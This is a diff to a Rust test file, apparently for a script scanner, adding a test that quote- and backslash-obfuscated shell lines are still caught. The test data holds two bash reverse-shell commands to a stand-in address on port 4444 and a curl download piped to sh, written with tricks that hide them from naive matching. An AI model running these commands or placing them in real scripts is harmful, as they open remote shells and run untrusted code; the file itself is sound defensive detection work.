@@ -386,3 +386,22 @@ fn a_script_is_read_at_both_ends_however_much_stands_between_them() {
     });
     assert_eq!(offset, Some(padding.len() as u64));
 }
+
+#[test]
+fn quotes_inside_words_hide_no_command() {
+    for (line, rule) in [
+        (
+            r#"ba""sh -i >& /d""ev/t""cp/203.0.113.5/4444 0>&1"#,
+            "reverse-shell",
+        ),
+        (
+            r"b\ash -i >& /d\ev/t''cp/203.0.113.5/4444 0>&1",
+            "reverse-shell",
+        ),
+        (r#"cu""rl -s http://203.0.113.5/x | s''h"#, "runs-download"),
+    ] {
+        let script = format!("#!/bin/sh\n{line}\n");
+        let found = rules_of("opt/run", 0o755, script.as_bytes());
+        assert!(found.contains(rule), "{line}: {found:?}");
+    }
+}
